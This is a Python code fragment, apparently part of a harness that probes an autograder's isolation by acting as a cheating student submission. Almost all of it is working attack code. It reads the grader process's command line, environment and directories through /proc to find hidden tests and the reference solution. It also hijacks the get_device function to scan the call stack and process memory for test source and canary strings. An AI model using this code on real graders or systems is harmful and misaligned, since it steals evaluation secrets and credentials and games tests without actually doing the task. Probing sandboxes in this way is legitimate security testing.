# ---------------------------------------------------------------- attack: read_secrets
# At import: read the hidden tests and the reference solution, at the paths a student can guess, at the paths
# the runner's command line names (/proc/<ppid>/cmdline), through /proc/<ppid>/cwd and /proc/<ppid>/root,
# and look for the runner's environment. Inside get_device (the first test's call): inspect.stack() and a scan
# of every string in the process for test or reference source. Whatever is read is printed.
def _attack_cmdline(pid):
    with open(f"/proc/{pid}/cmdline", "rb") as stream:
        return [part.decode("utf-8", "replace") for part in stream.read().split(b"\0") if part]


def _attack_parent_of(pid):
    with open(f"/proc/{pid}/stat") as stream:
        return int(stream.read().rsplit(")", 1)[1].split()[1])


def _attack_read_secrets():
    hidden, reference = _ATTACK_CONFIG["hidden_rel"], _ATTACK_CONFIG["reference_rel"]
    targets = _attack_paths("source", hidden) + _attack_paths("source", reference)
    folders = _attack_paths("source") + _attack_paths("source", _aos.path.dirname(hidden)) + _attack_paths("results")
    runner = _aos.getppid()
    facts = {"runner": runner}
    try:
        argv = _attack_cmdline(runner)
        facts["runner_cmdline"] = argv
        for index, arg in enumerate(argv):
            following = argv[index + 1] if index + 1 < len(argv) else ""
            if arg == "--ag-reference":
                targets.append(_aos.path.join(following, _aos.path.basename(reference)))
                folders.append(following)
            elif arg in ("--ag-worker-settings", "-c"):
                targets.append(following)
            elif arg == "--ag-submission":
                folders.append(following)
            elif arg.rstrip("/").endswith("tests/hidden"):
                targets.append(_aos.path.join(arg, _aos.path.basename(hidden)))
                folders.append(arg)
        supervisor = _attack_parent_of(runner)
        facts["supervisor"] = supervisor
        facts["supervisor_cmdline"] = _attack_cmdline(supervisor)
    except OSError as exc:
        facts["cmdline_error"] = repr(exc)
        supervisor = None
    for pid in filter(None, (runner, supervisor)):
        targets += [f"/proc/{pid}/environ", f"/proc/{pid}/cwd/../reference/" + _aos.path.basename(reference)]
        for rel in (hidden, reference):
            targets.append(f"/proc/{pid}/root{_ATTACK_CONFIG['root']}/source/{rel}")
            targets.append(f"/proc/{pid}/cwd/source/{rel}")
        folders += [f"/proc/{pid}/cwd", f"/proc/{pid}/fd"]
    facts["reads"] = [_attack_try(f"read {path}", lambda p=path: _attack_read(p)) for path in dict.fromkeys(targets)]
    facts["listings"] = [_attack_try(f"list {folder}", lambda f=folder: sorted(_aos.listdir(f))[:50])
                         for folder in dict.fromkeys(folders)]
    facts["links"] = [_attack_try(f"readlink /proc/{pid}/{name}", lambda p=pid, n=name: _aos.readlink(f"/proc/{p}/{n}"))
                      for pid in filter(None, (runner, supervisor)) for name in ("cwd", "root", "exe")]
    _attack_record("read_secrets", stage="files", **facts)


def _attack_scan_memory():
    import gc
    import inspect

    frames = []
    for info in inspect.stack():
        frames.append({"file": info.filename, "function": info.function,
                       "locals": {k: repr(v)[:200] for k, v in list(info.frame.f_locals.items())[:20]}})
    needles = ("def test_", "hidden", "BEGIN SOLUTION", "CANARY", "_autograder_reference")
    found = []
    for obj in gc.get_objects():
        if isinstance(obj, dict):
            values = obj.values()
        elif isinstance(obj, (list, tuple)):
            values = obj
        else:
            continue
        for value in values:
            if type(value) is str and len(value) > 20 and any(n in value for n in needles) and len(found) < 30:
                found.append(value[:500])
    modules = sorted(name for name in _asys.modules if "test" in name or "reference" in name or "conftest" in name)
    _attack_record("read_secrets", stage="memory", stack=frames, strings=found, modules=modules)


_attack_honest_get_device_rs = get_device


def get_device():
    _attack_try("scan memory", _attack_scan_memory)
    return _attack_honest_get_device_rs()


if _attack_is_student():
    _attack_read_secrets()
else:
    _attack_record("read_secrets", skipped="not running as the grading account")
